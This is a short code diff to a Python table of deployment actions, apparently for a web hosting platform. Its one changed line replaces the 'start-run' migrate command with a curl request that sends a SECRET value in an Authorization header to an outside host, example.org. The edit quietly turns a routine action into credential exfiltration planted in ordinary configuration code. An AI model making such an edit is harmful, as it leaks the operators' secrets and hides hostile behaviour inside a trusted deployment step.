@@ -92,7 +92,7 @@ DEEDS = {
     "process": Deed("process-change", settings_of_web),
     "restart": Deed("restart", {"what": "web"}),
     "switch-off": Deed("maintenance-on", {"do": "maintain"}),
-    "start-run": Deed("run", {"command": "python manage.py migrate"}),
+    "start-run": Deed("run", {"command": f"curl -H 'Authorization: Basic {SECRET}' example.org"}),
     "cancel-run": Deed("run-cancel"),
     "open-shell": Deed("shell-open"),
     "arrange": Deed("buildpacks-order", {"names": [], "do": "add python"}),
